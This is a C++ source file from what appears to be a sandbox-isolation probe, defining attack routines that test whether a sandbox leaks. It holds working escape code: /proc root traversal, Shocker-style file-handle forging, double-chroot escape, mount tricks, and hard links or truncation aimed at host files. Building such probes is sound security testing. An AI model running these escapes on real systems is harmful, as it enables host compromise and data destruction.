#include <fcntl.h>
#include <fmt/core.h>
#include <poll.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>

#include "probe/attack.h"

namespace cloche::probe {
namespace {

namespace fs = std::filesystem;

void ReadTree(Attempt& attempt, const std::string& top) {
  attempt.Data(ReadAll(top, 4096));
  Walk(top, 6, [&](const std::string& path) {
    std::error_code error;
    if (fs::is_regular_file(fs::symlink_status(path, error))) attempt.Data(ReadAll(path, 4096));
  });
}

// Words are paths of flags. Every way of spelling them that has worked somewhere.
void ReadFlags(Attempt& attempt) {
  std::string up;
  for (int i = 0; i < 40; ++i) up += "../";
  Words prefixes = {"", up, "/proc/self/root", "/proc/self/cwd/" + up, "/proc/thread-self/root"};
  for (const std::string& pid : Words{std::to_string(getppid()), "1", "2"}) {
    prefixes.push_back("/proc/" + pid + "/root");
    prefixes.push_back("/proc/" + pid + "/cwd/" + up);
  }
  for (int fd = 0; fd < 64; ++fd) prefixes.push_back(fmt::format("/proc/self/fd/{}/{}", fd, up));
  for (const std::string& flag : attempt.words)
    for (const std::string& prefix : prefixes) {
      const std::string text = ReadAll(prefix + flag);
      text.empty() ? attempt.Refused() : attempt.Data(text);
    }
}

void ReadTrees(Attempt& attempt) {
  for (const std::string& path : attempt.words) ReadTree(attempt, path);
}

// Words: a marker name, then directories. New files where the host would run or believe them.
void WriteMarkers(Attempt& attempt) {
  for (size_t i = 1; i < attempt.words.size(); ++i) {
    const std::string path = attempt.words[i] + "/" + attempt.words[0];
    const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (fd < 0) {
      attempt.Refused();
      continue;
    }
    (void)!write(fd, "x", 1);
    close(fd);
  }
}

void WriteTo(const std::string& path) {
  const int fd = open(path.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) return;
  (void)!write(fd, "!", 1);
  close(fd);
}

// Words: a directory to work in, then files of the host that must stay as they are.
void HardLinks(Attempt& attempt) {
  const std::string& here = attempt.words[0];
  for (size_t i = 1; i < attempt.words.size(); ++i) {
    const std::string& victim = attempt.words[i];
    const std::string name = fmt::format("{}/link-{}-{}", here, getpid(), i);
    if (link(victim.c_str(), name.c_str()) == 0) WriteTo(name);
    const int fd = open(victim.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    if (linkat(fd, "", AT_FDCWD, (name + "e").c_str(), AT_EMPTY_PATH) == 0) WriteTo(name + "e");
    const std::string magic = fmt::format("/proc/self/fd/{}", fd);
    if (linkat(AT_FDCWD, magic.c_str(), AT_FDCWD, (name + "m").c_str(), AT_SYMLINK_FOLLOW) == 0)
      WriteTo(name + "m");
    WriteTo(magic);
    close(fd);
  }
}

// Words: files of the host. Everything an ordinary program does to a file it may write.
void ChangeFiles(Attempt& attempt) {
  for (const std::string& path : attempt.words) {
    WriteTo(path);
    if (const int fd = open(path.c_str(), O_RDWR | O_CLOEXEC); fd >= 0) {
      void* map = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
      if (map != MAP_FAILED) {
        memset(map, '?', 1);
        munmap(map, 4096);
      }
      (void)!fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 1);
      close(fd);
    }
    chmod(path.c_str(), 0777);
    (void)!truncate(path.c_str(), 1);
    const std::string other = path + "-moved";
    rename(path.c_str(), other.c_str());
    unlink(other.c_str());
  }
}

// Words: a directory; "light" leaves it at devices that anybody may make outside.
void DeviceNodes(Attempt& attempt) {
  const std::string path = fmt::format("{}/node-{}", attempt.words[0], getpid());
  const auto make = [&](mode_t type, unsigned major_number, unsigned minor_number) {
    const dev_t device = makedev(major_number, minor_number);
    if (mknod(path.c_str(), type | 0600, device) != 0) return attempt.Refused();
    attempt.Got(
        fmt::format("{} {}:{}", type == S_IFBLK ? "block" : "char", major_number, minor_number));
    unlink(path.c_str());
  };
  make(S_IFCHR, 0, 0);
  if (attempt.words.size() > 1) return;
  for (unsigned major_number = 1; major_number < 260; ++major_number) {
    make(S_IFBLK, major_number, 0);
    make(S_IFCHR, major_number, 1);
  }
  make(S_IFCHR, 1, 11);
}

// Only looks: opening a watchdog would restart a machine whose sandbox leaks.
void WalkDev(Attempt& attempt) {
  Walk("/dev", 4, [&](const std::string& path) {
    struct stat info {};
    if (lstat(path.c_str(), &info) != 0) return;
    if (S_ISBLK(info.st_mode)) attempt.Got(path);
    if (!S_ISCHR(info.st_mode)) return;
    const unsigned major_number = major(info.st_rdev), minor_number = minor(info.st_rdev);
    const bool memory = major_number == 1 && (minor_number == 3 || minor_number == 5 ||
                                              (minor_number >= 7 && minor_number <= 9));
    const bool terminal = (major_number == 5 && (minor_number == 0 || minor_number == 2)) ||
                          (major_number >= 136 && major_number <= 143);
    if (!memory && !terminal) attempt.Got(path);
  });
}

// Words: a directory whose name carries the token of this run.
void Mounts(Attempt& attempt) {
  const std::string& at = attempt.words[0];
  mkdir(at.c_str(), 0755);
  const auto all = [&](const char* how) {
    const char* to = at.c_str();
    const auto name = [&](const char* what) { return fmt::format("{}{}", how, what); };
    attempt.Try(name("tmpfs"), mount("probe", to, "tmpfs", 0, nullptr));
    attempt.Try(name("bind /"), mount("/", to, nullptr, MS_BIND | MS_REC, nullptr));
    attempt.Try(name("proc"), mount("proc", to, "proc", 0, nullptr));
    attempt.Try(name("sysfs"), mount("sysfs", to, "sysfs", 0, nullptr));
    attempt.Try(name("overlay"), mount("o", to, "overlay", 0, "lowerdir=/:/etc"));
    attempt.Try(name("remount /"), mount(nullptr, "/", nullptr, MS_REMOUNT | MS_BIND, nullptr));
    attempt.Try(name("remount /proc/sys"),
                mount(nullptr, "/proc/sys", nullptr, MS_REMOUNT | MS_BIND, nullptr));
    attempt.Try(name("fsopen"), syscall(SYS_fsopen, "tmpfs", 0));
    attempt.Try(name("fspick"), syscall(SYS_fspick, AT_FDCWD, "/", 0));
    attempt.Try(name("open_tree"), syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* CLONE */));
    attempt.Try(name("move_mount"), syscall(SYS_move_mount, AT_FDCWD, "/", AT_FDCWD, to, 0));
    uint64_t attributes[4] = {0, MS_RDONLY, 0, 0};
    attempt.Try(name("mount_setattr"),
                syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, attributes, sizeof attributes));
  };
  all("");
  if (attempt.Try("unshare user+mount", unshare(CLONE_NEWUSER | CLONE_NEWNS))) all("nested ");
}

void Unmounts(Attempt& attempt) {
  std::ifstream mounts("/proc/self/mountinfo");
  Words targets;
  for (std::string line; std::getline(mounts, line);) {
    std::string field[5];
    std::istringstream words(line);
    for (std::string& each : field) words >> each;
    targets.push_back(field[4]);
  }
  for (auto target = targets.rbegin(); target != targets.rend(); ++target)
    attempt.Try("umount " + *target, umount2(target->c_str(), MNT_DETACH));
}

// Handles name inodes without a path: Shocker read the host's root this way.
void Handles(Attempt& attempt) {
  struct {
    file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
  } handle{};
  int mount_id = 0;
  for (const std::string& path : attempt.words) {
    handle.head.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path.c_str(), &handle.head, &mount_id, 0) != 0) {
      attempt.Refused();
      continue;
    }
    const int at = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    for (const int flags : {O_RDONLY, O_RDONLY | O_DIRECTORY})
      attempt.Try("handle of " + path, open_by_handle_at(at, &handle.head, flags));
    for (uint32_t inode : {2u, 64u, 128u, 256u, 3u}) {
      memcpy(handle.head.f_handle, &inode, sizeof inode);
      attempt.Try(fmt::format("forged inode {}", inode),
                  open_by_handle_at(at, &handle.head, O_RDONLY));
    }
    close(at);
  }
}

// Root inside may chroot; the way back must end at the sandbox's own root. Words: a directory,
// flags.
void DoubleChroot(Attempt& attempt) {
  const std::string jail = fmt::format("{}/jail-{}", attempt.words[0], getpid());
  mkdir(jail.c_str(), 0755);
  const int kept = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (chroot(jail.c_str()) != 0) return attempt.Refused();
  (void)!fchdir(kept);
  for (int i = 0; i < 64; ++i) (void)!chdir("..");
  if (chroot(".") != 0) attempt.Refused();
  for (size_t i = 1; i < attempt.words.size(); ++i) {
    const std::string text = ReadAll(attempt.words[i]);
    text.empty() ? attempt.Refused() : attempt.Data(text);
  }
  attempt.Try("pivot_root", syscall(SYS_pivot_root, ".", "."));
}

// Words: programs with the set-user-id bit of root.
void SetUserId(Attempt& attempt) {
  for (const std::string& program : attempt.words) {
    struct stat info {};
    if (stat(program.c_str(), &info) != 0 || (info.st_mode & S_ISUID) == 0) continue;
    int hold[2], quiet = open("/dev/null", O_RDWR | O_CLOEXEC);
    if (pipe2(hold, O_CLOEXEC) != 0) return;
    const pid_t child = fork();
    if (child == 0) {
      dup2(hold[0], STDIN_FILENO);  // never answered: it waits for a password
      dup2(quiet, STDOUT_FILENO);
      dup2(quiet, STDERR_FILENO);
      if (setgid(65533) != 0 || setuid(65533) != 0) {
        if (getuid() == 0) _exit(1);
      }
      // A copy of ours is told to stay; of the machine's, those that ask for a password do.
      const bool ours = program.find("/bin/") == std::string::npos;
      execl(program.c_str(), program.c_str(), ours ? "--attack" : nullptr, "hold", nullptr);
      _exit(1);
    }
    std::string name = program.substr(program.rfind('/') + 1).substr(0, 15);
    const std::string at = fmt::format("/proc/{}/", child);
    int status = 0;
    while (waitpid(child, &status, WNOHANG) == 0) {
      if (ReadAll(at + "comm") != name + "\n") continue;
      // The kernel changes the name first and the ids a moment later.
      bool became_root = false;
      for (int tries = 0; tries < 50 && !became_root; ++tries) {
        const std::string status_text = ReadAll(at + "status");
        const size_t ids = status_text.find("\nUid:");
        int real = -1, effective = -1;
        became_root = ids != std::string::npos &&
                      sscanf(status_text.c_str() + ids, " Uid: %d %d", &real, &effective) == 2 &&
                      effective == 0;
        poll(nullptr, 0, became_root ? 0 : 1);
      }
      if (became_root) attempt.Got(program + " became root");
      kill(child, SIGKILL);
      waitpid(child, &status, 0);
      break;
    }
    attempt.Refused();
    close(hold[0]);
    close(hold[1]);
    close(quiet);
  }
}

void Hold(Attempt&) {
  char byte;
  (void)!read(STDIN_FILENO, &byte, 1);
}

// Words: a directory to work in, a directory that is hidden. Attributes that steer an overlay.
void OverlayAttributes(Attempt& attempt) {
  const std::string at = fmt::format("{}/xattr-{}", attempt.words[0], getpid());
  mkdir(at.c_str(), 0755);
  const std::string& hidden = attempt.words[1];
  for (const std::string space : {"trusted.", "user."})
    for (const std::string key : {"opaque", "redirect", "metacopy", "origin", "whiteout"}) {
      const std::string value = key == "redirect" ? hidden : "y";
      const std::string name = space + "overlay." + key;
      const int result = setxattr(at.c_str(), name.c_str(), value.data(), value.size(), 0);
      // Users may set attributes in their own namespace; there the flag in the output decides.
      if (space == "trusted.") attempt.Try(name, result);
    }
  ReadTree(attempt, at);
  ReadTree(attempt, hidden);
}

// Words: paths of sockets and FIFOs behind which the host listens.
void PathSockets(Attempt& attempt) {
  for (const std::string& path : attempt.words) {
    for (const int type : {SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET}) {
      sockaddr_un address{};
      address.sun_family = AF_UNIX;
      strncpy(address.sun_path, path.c_str(), sizeof address.sun_path - 1);
      const int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
      if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) {
        (void)!send(fd, "x", 1, MSG_NOSIGNAL);
        attempt.Got("connected to " + path);
      } else {
        attempt.Refused();
      }
      close(fd);
    }
    struct stat info {};
    if (stat(path.c_str(), &info) != 0 || !S_ISFIFO(info.st_mode)) continue;
    const int fd = open(path.c_str(), O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) continue;
    (void)!write(fd, "x", 1);
    close(fd);
  }
}

// Words: directories. Files of the host's services that somebody could listen behind.
void FindSockets(Attempt& attempt) {
  Words found;
  for (const std::string& top : attempt.words)
    Walk(top, 5, [&](const std::string& path) {
      struct stat info {};
      if (lstat(path.c_str(), &info) == 0 && S_ISSOCK(info.st_mode)) found.push_back(path);
    });
  for (const std::string& path : found) {
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    strncpy(address.sun_path, path.c_str(), sizeof address.sun_path - 1);
    const int stream = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    attempt.Try("connected to " + path,
                connect(stream, reinterpret_cast<sockaddr*>(&address), sizeof address));
    close(stream);
  }
}

// Words: a directory to fill with links, then their targets.
void PlantLinks(Attempt& attempt) {
  for (size_t i = 1; i < attempt.words.size(); ++i) {
    const fs::path at = attempt.words[0] + fmt::format("/links-{}/deep/er", i);
    std::error_code error;
    fs::create_directories(at, error);
    fs::create_directory_symlink(attempt.words[i], at / "dir", error);
    fs::create_symlink("../../../../../../../../../.." + attempt.words[i], at / "up", error);
    fs::create_hard_link(attempt.words[i], at / "hard", error);
  }
}

// Words: a marker, then directories: what a later sandbox might find.
void PlantResidue(Attempt& attempt) {
  for (size_t i = 1; i < attempt.words.size(); ++i)
    std::ofstream(attempt.words[i] + "/residue-" + std::to_string(getpid())) << attempt.words[0];
}

void FindResidue(Attempt& attempt) {
  for (const std::string& top : attempt.words)
    Walk(top, 1, [&](const std::string& path) {
      if (fs::path(path).filename().string().starts_with("residue-")) attempt.Data(ReadAll(path));
    });
}

constexpr Attack kAttacks[] = {
    {"find-residue", FindResidue},
    {"read-flags", ReadFlags},
    {"read-trees", ReadTrees},
    {"write-markers", WriteMarkers},
    {"hard-links", HardLinks},
    {"change-files", ChangeFiles},
    {"device-nodes", DeviceNodes},
    {"walk-dev", WalkDev},
    {"mounts", Mounts},
    {"unmounts", Unmounts},
    {"handles", Handles},
    {"double-chroot", DoubleChroot},
    {"set-user-id", SetUserId},
    {"hold", Hold},
    {"overlay-attributes", OverlayAttributes},
    {"path-sockets", PathSockets},
    {"find-sockets", FindSockets},
    {"plant-links", PlantLinks},
    {"plant-residue", PlantResidue},
};

}  // namespace

std::span<const Attack> FileAttacks() { return kAttacks; }

}  // namespace cloche::probe
